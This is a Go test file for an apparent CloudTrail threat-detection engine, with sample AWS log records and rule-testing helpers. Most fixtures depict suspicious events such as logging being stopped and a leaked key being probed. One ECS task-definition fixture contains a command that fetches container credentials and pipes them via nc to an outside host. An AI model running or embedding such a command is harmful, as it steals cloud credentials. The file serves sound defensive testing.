package detect

import (
	"encoding/json"
	"strings"
	"testing"

	"github.com/trailsentry/trailsentry/internal/event"
)

// Realistic CloudTrail records, shaped as CloudTrail writes them, used across
// the tests. Account ids, keys and addresses are documentation values.

const evSecurityGroupIngress = `{"eventVersion":"1.09","userIdentity":{"type":"AssumedRole","principalId":"AROA3EXAMPLEROLEID:alice","arn":"arn:aws:sts::123456789012:assumed-role/DevOps/alice","accountId":"123456789012","accessKeyId":"ASIA3EXAMPLEKEY0001","sessionContext":{"sessionIssuer":{"type":"Role","principalId":"AROA3EXAMPLEROLEID","arn":"arn:aws:iam::123456789012:role/DevOps","accountId":"123456789012","userName":"DevOps"},"attributes":{"creationDate":"2024-05-01T10:00:00Z","mfaAuthenticated":"false"}}},"eventTime":"2024-05-01T10:15:42Z","eventSource":"ec2.amazonaws.com","eventName":"AuthorizeSecurityGroupIngress","awsRegion":"us-east-1","sourceIPAddress":"203.0.113.24","userAgent":"aws-cli/2.15.30 Python/3.11.8 Linux/6.5.0-1018-aws exe/x86_64.ubuntu.22 prompt/off command/ec2.authorize-security-group-ingress","requestParameters":{"groupId":"sg-0123456789abcdef0","ipPermissions":{"items":[{"ipProtocol":"tcp","fromPort":22,"toPort":22,"groups":{},"ipRanges":{"items":[{"cidrIp":"0.0.0.0/0","description":"SSH from anywhere"}]},"ipv6Ranges":{"items":[{"cidrIpv6":"2001:db8:1234::/48"}]},"prefixListIds":{}},{"ipProtocol":"tcp","fromPort":443,"toPort":443,"groups":{},"ipRanges":{"items":[{"cidrIp":"10.20.0.0/16"}]},"ipv6Ranges":{},"prefixListIds":{}}]}},"responseElements":{"requestId":"1c2d3e4f-aaaa-bbbb-cccc-1234567890ab","_return":true,"securityGroupRuleSet":{"items":[{"groupOwnerId":"123456789012","groupId":"sg-0123456789abcdef0","securityGroupRuleId":"sgr-0aaa1111bbbb2222c","isEgress":false,"ipProtocol":"tcp","fromPort":22,"toPort":22,"cidrIpv4":"0.0.0.0/0"}]}},"requestID":"1c2d3e4f-aaaa-bbbb-cccc-1234567890ab","eventID":"5f4e3d2c-1111-2222-3333-444455556666","readOnly":false,"eventType":"AwsApiCall","managementEvent":true,"recipientAccountId":"123456789012","eventCategory":"Management","tlsDetails":{"tlsVersion":"TLSv1.3","cipherSuite":"TLS_AES_128_GCM_SHA256","clientProvidedHostHeader":"ec2.us-east-1.amazonaws.com"}}`

const evConsoleLoginNoMFA = `{"eventVersion":"1.08","userIdentity":{"type":"IAMUser","principalId":"AIDA3EXAMPLEUSERBOB","arn":"arn:aws:iam::123456789012:user/bob","accountId":"123456789012","userName":"bob"},"eventTime":"2024-05-02T08:01:02Z","eventSource":"signin.amazonaws.com","eventName":"ConsoleLogin","awsRegion":"us-east-1","sourceIPAddress":"198.51.100.7","userAgent":"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36","requestParameters":null,"responseElements":{"ConsoleLogin":"Success"},"additionalEventData":{"LoginTo":"https://console.aws.amazon.com/console/home?state=hashArgs%23&isauthcode=true","MobileVersion":"No","MFAUsed":"No"},"eventID":"0d9a2f7e-7c1b-4c55-9f0e-5b8f2a3c4d5e","readOnly":false,"eventType":"AwsConsoleSignIn","managementEvent":true,"recipientAccountId":"123456789012","eventCategory":"Management","tlsDetails":{"tlsVersion":"TLSv1.3","cipherSuite":"TLS_AES_128_GCM_SHA256","clientProvidedHostHeader":"signin.aws.amazon.com"}}`

const evConsoleLoginMFA = `{"eventVersion":"1.08","userIdentity":{"type":"IAMUser","principalId":"AIDA3EXAMPLEUSERCAROL","arn":"arn:aws:iam::123456789012:user/carol","accountId":"123456789012","userName":"carol"},"eventTime":"2024-05-02T08:05:00Z","eventSource":"signin.amazonaws.com","eventName":"ConsoleLogin","awsRegion":"us-east-1","sourceIPAddress":"198.51.100.8","userAgent":"Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15","requestParameters":null,"responseElements":{"ConsoleLogin":"Success"},"additionalEventData":{"LoginTo":"https://console.aws.amazon.com/console/home","MobileVersion":"No","MFAIdentifier":"arn:aws:iam::123456789012:mfa/carol","MFAUsed":"Yes"},"eventID":"6a1b2c3d-4e5f-4a6b-8c7d-9e0f1a2b3c4d","readOnly":false,"eventType":"AwsConsoleSignIn","managementEvent":true,"recipientAccountId":"123456789012","eventCategory":"Management"}`

const evConsoleLoginFailed = `{"eventVersion":"1.08","userIdentity":{"type":"IAMUser","principalId":"AIDA3EXAMPLEUSERBOB","accountId":"123456789012","accessKeyId":"","userName":"bob"},"eventTime":"2024-05-02T07:59:30Z","eventSource":"signin.amazonaws.com","eventName":"ConsoleLogin","awsRegion":"us-east-1","sourceIPAddress":"198.51.100.7","userAgent":"Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0","errorMessage":"Failed authentication","requestParameters":null,"responseElements":{"ConsoleLogin":"Failure"},"additionalEventData":{"LoginTo":"https://console.aws.amazon.com/console/home","MobileVersion":"No","MFAUsed":"No"},"eventID":"a1b2c3d4-0000-4000-8000-00000000f00d","readOnly":false,"eventType":"AwsConsoleSignIn","managementEvent":true,"recipientAccountId":"123456789012","eventCategory":"Management"}`

const evPutBucketPolicy = `{"eventVersion":"1.09","userIdentity":{"type":"AssumedRole","principalId":"AROA3EXAMPLEDEPLOY:gh-actions","arn":"arn:aws:sts::123456789012:assumed-role/Deploy/gh-actions","accountId":"123456789012","accessKeyId":"ASIA3EXAMPLEKEY0002","sessionContext":{"sessionIssuer":{"type":"Role","principalId":"AROA3EXAMPLEDEPLOY","arn":"arn:aws:iam::123456789012:role/Deploy","accountId":"123456789012","userName":"Deploy"},"attributes":{"creationDate":"2024-05-03T11:58:00Z","mfaAuthenticated":"false"}}},"eventTime":"2024-05-03T12:00:00Z","eventSource":"s3.amazonaws.com","eventName":"PutBucketPolicy","awsRegion":"eu-west-1","sourceIPAddress":"2001:db8:85a3::8a2e:370:7334","userAgent":"[aws-sdk-go-v2/1.26.1 os/linux lang/go#1.22.2 md/GOOS#linux md/GOARCH#amd64 api/s3#1.53.1]","requestParameters":{"bucketPolicy":{"Version":"2012-10-17","Statement":[{"Sid":"PublicRead","Effect":"Allow","Principal":"*","Action":["s3:GetObject"],"Resource":["arn:aws:s3:::example-bucket/*"]}]},"bucketName":"example-bucket","Host":"example-bucket.s3.eu-west-1.amazonaws.com","policy":""},"responseElements":null,"additionalEventData":{"SignatureVersion":"SigV4","CipherSuite":"TLS_AES_128_GCM_SHA256","bytesTransferredIn":312,"AuthenticationMethod":"AuthHeader","x-amz-id-2":"Zm9vYmFyYmF6","bytesTransferredOut":0},"requestID":"9F2A1B3C4D5E6F70","eventID":"c0ffee00-1234-4abc-9def-0123456789ab","readOnly":false,"resources":[{"accountId":"123456789012","type":"AWS::S3::Bucket","ARN":"arn:aws:s3:::example-bucket"}],"eventType":"AwsApiCall","managementEvent":true,"recipientAccountId":"123456789012","eventCategory":"Management"}`

const evCreateAccessKey = `{"eventVersion":"1.09","userIdentity":{"type":"IAMUser","principalId":"AIDA3EXAMPLEADMIN","arn":"arn:aws:iam::123456789012:user/admin","accountId":"123456789012","accessKeyId":"AKIA3EXAMPLEADMIN01","userName":"admin"},"eventTime":"2024-05-04T09:30:00Z","eventSource":"iam.amazonaws.com","eventName":"CreateAccessKey","awsRegion":"us-east-1","sourceIPAddress":"192.0.2.10","userAgent":"aws-cli/2.15.30 Python/3.11.8 Darwin/23.4.0 exe/x86_64 prompt/off command/iam.create-access-key","requestParameters":{"userName":"mallory"},"responseElements":{"accessKey":{"accessKeyId":"AKIA3EXAMPLENEWKEY1","status":"Active","userName":"mallory","createDate":"May 4, 2024 9:30:00 AM"}},"requestID":"7e1f2a3b-4c5d-4e6f-8a9b-0c1d2e3f4a5b","eventID":"e2d3c4b5-a697-4887-9a6b-5c4d3e2f1a0b","readOnly":false,"eventType":"AwsApiCall","managementEvent":true,"recipientAccountId":"123456789012","eventCategory":"Management","tlsDetails":{"tlsVersion":"TLSv1.3","cipherSuite":"TLS_AES_128_GCM_SHA256","clientProvidedHostHeader":"iam.amazonaws.com"}}`

const evStopLoggingRoot = `{"eventVersion":"1.09","userIdentity":{"type":"Root","principalId":"123456789012","arn":"arn:aws:iam::123456789012:root","accountId":"123456789012","accessKeyId":"ASIA3EXAMPLEROOT001","sessionContext":{"attributes":{"creationDate":"2024-05-05T23:50:00Z","mfaAuthenticated":"true"}}},"eventTime":"2024-05-05T23:59:59Z","eventSource":"cloudtrail.amazonaws.com","eventName":"StopLogging","awsRegion":"us-east-1","sourceIPAddress":"203.0.113.99","userAgent":"AWS Internal","requestParameters":{"name":"arn:aws:cloudtrail:us-east-1:123456789012:trail/management-events"},"responseElements":null,"requestID":"b1c2d3e4-f5a6-4b7c-8d9e-0f1a2b3c4d5e","eventID":"d4c3b2a1-0f9e-4d8c-b7a6-5f4e3d2c1b0a","readOnly":false,"eventType":"AwsApiCall","managementEvent":true,"recipientAccountId":"123456789012","eventCategory":"Management"}`

const evGetCallerIdentityTruffleHog = `{"eventVersion":"1.08","userIdentity":{"type":"IAMUser","principalId":"AIDA3EXAMPLELEAKED","arn":"arn:aws:iam::123456789012:user/ci-bot","accountId":"123456789012","accessKeyId":"AKIA3EXAMPLELEAKED1","userName":"ci-bot"},"eventTime":"2024-05-06T03:14:15Z","eventSource":"sts.amazonaws.com","eventName":"GetCallerIdentity","awsRegion":"us-east-1","sourceIPAddress":"185.220.101.33","userAgent":"TruffleHog","requestParameters":null,"responseElements":null,"requestID":"f00dbabe-1111-4222-8333-444455556666","eventID":"0a1b2c3d-4e5f-4061-8273-94a5b6c7d8e9","readOnly":true,"eventType":"AwsApiCall","managementEvent":true,"recipientAccountId":"123456789012","eventCategory":"Management"}`

const evListBucketsIMDS = `{"eventVersion":"1.09","userIdentity":{"type":"AssumedRole","principalId":"AROA3EXAMPLEEC2ROLE:i-0abc123def4567890","arn":"arn:aws:sts::123456789012:assumed-role/aws:ec2-instance/i-0abc123def4567890","accountId":"123456789012","accessKeyId":"ASIA3EXAMPLEIMDS001","sessionContext":{"sessionIssuer":{"type":"Role","principalId":"AROA3EXAMPLEEC2ROLE","arn":"arn:aws:iam::123456789012:role/aws:ec2-instance","accountId":"123456789012","userName":"aws:ec2-instance"},"attributes":{"creationDate":"2024-05-07T00:00:00Z","mfaAuthenticated":"false"},"ec2RoleDelivery":"2.0"}},"eventTime":"2024-05-07T01:02:03Z","eventSource":"s3.amazonaws.com","eventName":"ListBuckets","awsRegion":"us-east-1","sourceIPAddress":"198.51.100.201","userAgent":"aws-cli/1.29.0 Python/3.9.16 Linux/5.10.0 botocore/1.31.0","requestParameters":{"Host":"s3.amazonaws.com"},"responseElements":null,"requestID":"ABCDEF0123456789","eventID":"11112222-3333-4444-5555-666677778888","readOnly":true,"eventType":"AwsApiCall","managementEvent":true,"recipientAccountId":"123456789012","eventCategory":"Management"}`

const evUpdateLoginProfile = `{"eventVersion":"1.09","userIdentity":{"type":"IAMUser","principalId":"AIDA3EXAMPLEADMIN","arn":"arn:aws:iam::123456789012:user/admin","accountId":"123456789012","accessKeyId":"AKIA3EXAMPLEADMIN01","userName":"admin"},"eventTime":"2024-05-08T14:00:00Z","eventSource":"iam.amazonaws.com","eventName":"UpdateLoginProfile","awsRegion":"us-east-1","sourceIPAddress":"192.0.2.10","userAgent":"aws-cli/2.15.30","requestParameters":{"userName":"dave","passwordResetRequired":false},"responseElements":null,"requestID":"5a5a5a5a-6b6b-4c7c-8d8d-9e9e9e9e9e9e","eventID":"12121212-3434-4565-8787-909090909090","readOnly":false,"eventType":"AwsApiCall","managementEvent":true,"recipientAccountId":"123456789012","eventCategory":"Management"}`

const evDeleteBucket = `{"eventVersion":"1.09","userIdentity":{"type":"AssumedRole","principalId":"AROA3EXAMPLEDEPLOY:cleanup","arn":"arn:aws:sts::123456789012:assumed-role/Deploy/cleanup","accountId":"123456789012","accessKeyId":"ASIA3EXAMPLEKEY0003","sessionContext":{"sessionIssuer":{"type":"Role","principalId":"AROA3EXAMPLEDEPLOY","arn":"arn:aws:iam::123456789012:role/Deploy","accountId":"123456789012","userName":"Deploy"},"attributes":{"creationDate":"2024-05-09T10:00:00Z","mfaAuthenticated":"false"}}},"eventTime":"2024-05-09T10:05:00Z","eventSource":"s3.amazonaws.com","eventName":"DeleteBucket","awsRegion":"us-east-1","sourceIPAddress":"203.0.113.50","userAgent":"[Boto3/1.34.90 md/Botocore#1.34.90 ua/2.0 os/linux#6.1.0 md/arch#x86_64 lang/python#3.12.3 md/pyimpl#CPython cfg/retry-mode#legacy Botocore/1.34.90]","requestParameters":{"bucketName":"old-logs-bucket","Host":"old-logs-bucket.s3.amazonaws.com"},"responseElements":null,"additionalEventData":{"SignatureVersion":"SigV4","CipherSuite":"TLS_AES_128_GCM_SHA256","bytesTransferredIn":0,"AuthenticationMethod":"AuthHeader","x-amz-id-2":"cXV4","bytesTransferredOut":0},"requestID":"0123456789ABCDEF","eventID":"99998888-7777-4666-a555-444433332222","readOnly":false,"resources":[{"accountId":"123456789012","type":"AWS::S3::Bucket","ARN":"arn:aws:s3:::old-logs-bucket"}],"eventType":"AwsApiCall","managementEvent":true,"recipientAccountId":"123456789012","eventCategory":"Management"}`

const evRunTaskCredentials = `{"eventVersion":"1.08","userIdentity":{"type":"AssumedRole","principalId":"AROA3EXAMPLEECS:ops","arn":"arn:aws:sts::123456789012:assumed-role/Ops/ops","accountId":"123456789012","sessionContext":{"sessionIssuer":{"type":"Role","principalId":"AROA3EXAMPLEECS","arn":"arn:aws:iam::123456789012:role/Ops","accountId":"123456789012","userName":"Ops"}}},"eventTime":"2024-05-10T16:20:00Z","eventSource":"ecs.amazonaws.com","eventName":"RegisterTaskDefinition","awsRegion":"us-west-2","sourceIPAddress":"203.0.113.77","userAgent":"aws-cli/2.15.30","requestParameters":{"family":"exfil","containerDefinitions":[{"name":"c","image":"alpine:3.19","command":["sh","-c","curl 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI | nc 203.0.113.5 4444"],"essential":true}],"requiresCompatibilities":["FARGATE"],"cpu":"256","memory":"512"},"responseElements":{"taskDefinition":{"revision":1,"family":"exfil"}},"eventID":"abababab-cdcd-4efe-8f8f-010101010101","readOnly":false,"eventType":"AwsApiCall","managementEvent":true,"recipientAccountId":"123456789012","eventCategory":"Management"}`

const evModifyDBInstancePassword = `{"eventVersion":"1.08","userIdentity":{"type":"IAMUser","principalId":"AIDA3EXAMPLEDBA","arn":"arn:aws:iam::123456789012:user/dba","accountId":"123456789012","accessKeyId":"AKIA3EXAMPLEDBA0001","userName":"dba"},"eventTime":"2024-05-11T05:00:00Z","eventSource":"rds.amazonaws.com","eventName":"ModifyDBInstance","awsRegion":"eu-central-1","sourceIPAddress":"192.0.2.44","userAgent":"aws-cli/2.15.30","requestParameters":{"dBInstanceIdentifier":"prod-db","masterUserPassword":"****","applyImmediately":true,"allocatedStorage":200},"responseElements":{"dBInstanceIdentifier":"prod-db","allocatedStorage":100,"pendingModifiedValues":{"masterUserPassword":"****","allocatedStorage":200},"publiclyAccessible":false},"eventID":"cdcdcdcd-1212-4343-8565-787878787878","readOnly":false,"eventType":"AwsApiCall","managementEvent":true,"recipientAccountId":"123456789012","eventCategory":"Management"}`

const evDescribeInstancesService = `{"eventVersion":"1.09","userIdentity":{"type":"AWSService","invokedBy":"autoscaling.amazonaws.com"},"eventTime":"2024-05-12T00:00:01Z","eventSource":"ec2.amazonaws.com","eventName":"DescribeInstances","awsRegion":"us-east-1","sourceIPAddress":"autoscaling.amazonaws.com","userAgent":"autoscaling.amazonaws.com","requestParameters":{"instancesSet":{"items":[{"instanceId":"i-0abc123def4567890"}]},"filterSet":{}},"responseElements":null,"requestID":"aaaa0000-bbbb-4ccc-8ddd-eeeeffff0000","eventID":"bbbb0000-cccc-4ddd-8eee-ffff00001111","readOnly":true,"eventType":"AwsApiCall","managementEvent":true,"recipientAccountId":"123456789012","eventCategory":"Management"}`

// fixtures are every event above, for the tests that sweep all of them.
var fixtures = map[string]string{
	"AuthorizeSecurityGroupIngress": evSecurityGroupIngress,
	"ConsoleLoginNoMFA":             evConsoleLoginNoMFA,
	"ConsoleLoginMFA":               evConsoleLoginMFA,
	"ConsoleLoginFailed":            evConsoleLoginFailed,
	"PutBucketPolicy":               evPutBucketPolicy,
	"CreateAccessKey":               evCreateAccessKey,
	"StopLoggingRoot":               evStopLoggingRoot,
	"GetCallerIdentityTruffleHog":   evGetCallerIdentityTruffleHog,
	"ListBucketsIMDS":               evListBucketsIMDS,
	"UpdateLoginProfile":            evUpdateLoginProfile,
	"DeleteBucket":                  evDeleteBucket,
	"RunTaskCredentials":            evRunTaskCredentials,
	"ModifyDBInstancePassword":      evModifyDBInstancePassword,
	"DescribeInstancesService":      evDescribeInstancesService,
}

// decode decodes one record through the real decoder.
func decode(t testing.TB, record string) *event.Event {
	t.Helper()
	ev, err := event.NewDecoder(strings.NewReader(record)).Next()
	if err != nil {
		t.Fatalf("decode: %v\n%s", err, record)
	}
	return ev
}

// deleted, as a value in with's changes, removes the field.
type deletedField struct{}

var deleted deletedField

// with returns record with fields changed: keys are dotted paths (objects
// are created as needed), values anything encoding/json marshals, or deleted.
func with(t testing.TB, record string, changes map[string]any) string {
	t.Helper()
	var m map[string]any
	if err := json.Unmarshal([]byte(record), &m); err != nil {
		t.Fatal(err)
	}
	for path, v := range changes {
		segs := strings.Split(path, ".")
		obj := m
		for _, s := range segs[:len(segs)-1] {
			next, ok := obj[s].(map[string]any)
			if !ok {
				next = map[string]any{}
				obj[s] = next
			}
			obj = next
		}
		last := segs[len(segs)-1]
		if _, del := v.(deletedField); del {
			delete(obj, last)
		} else {
			obj[last] = v
		}
	}
	out, err := json.Marshal(m)
	if err != nil {
		t.Fatal(err)
	}
	return string(out)
}

// compileRule builds a rule from a detection section written flush left.
func compileRule(t testing.TB, detection string) *Rule {
	t.Helper()
	rules, errs := ParseRules([]byte(ruleDoc(detection)), "test.yml")
	if len(errs) > 0 {
		t.Fatalf("unexpected load errors: %v\n%s", errs, detection)
	}
	if len(rules) != 1 {
		t.Fatalf("got %d rules, want 1", len(rules))
	}
	return rules[0]
}

// compileError returns the load error a detection section gives.
func compileError(t testing.TB, detection string) error {
	t.Helper()
	rules, errs := ParseRules([]byte(ruleDoc(detection)), "bad_rule.yml")
	if len(errs) != 1 || len(rules) != 0 {
		t.Fatalf("got %d rules and errors %v, want exactly one error\n%s", len(rules), errs, detection)
	}
	return errs[0]
}

func ruleDoc(detection string) string {
	var b strings.Builder
	b.WriteString("title: Test Rule\nid: 00000000-0000-4000-8000-000000000000\nlogsource:\n    product: aws\n    service: cloudtrail\ndetection:\n")
	for _, line := range strings.Split(strings.TrimSpace(detection), "\n") {
		b.WriteString("    " + line + "\n")
	}
	return b.String()
}

// matchCase is one event and whether the rule must match it.
type matchCase struct {
	name   string
	record string
	want   bool
}

// checkMatches compiles detection and checks each case, both through
// Rule.Match and through an Engine holding only that rule (so the index is
// exercised on every case too).
func checkMatches(t *testing.T, detection string, cases []matchCase) {
	t.Helper()
	r := compileRule(t, detection)
	e := NewEngine([]*Rule{r})
	for _, c := range cases {
		ev := decode(t, c.record)
		if got := r.Match(testView(ev)); got != c.want {
			t.Errorf("%s: Match = %v, want %v\ndetection:\n%s", c.name, got, c.want, detection)
		}
		got := false
		e.Match(testView(ev), func(*Rule) { got = true })
		if got != c.want {
			t.Errorf("%s: Engine.Match = %v, want %v\ndetection:\n%s", c.name, got, c.want, detection)
		}
	}
}
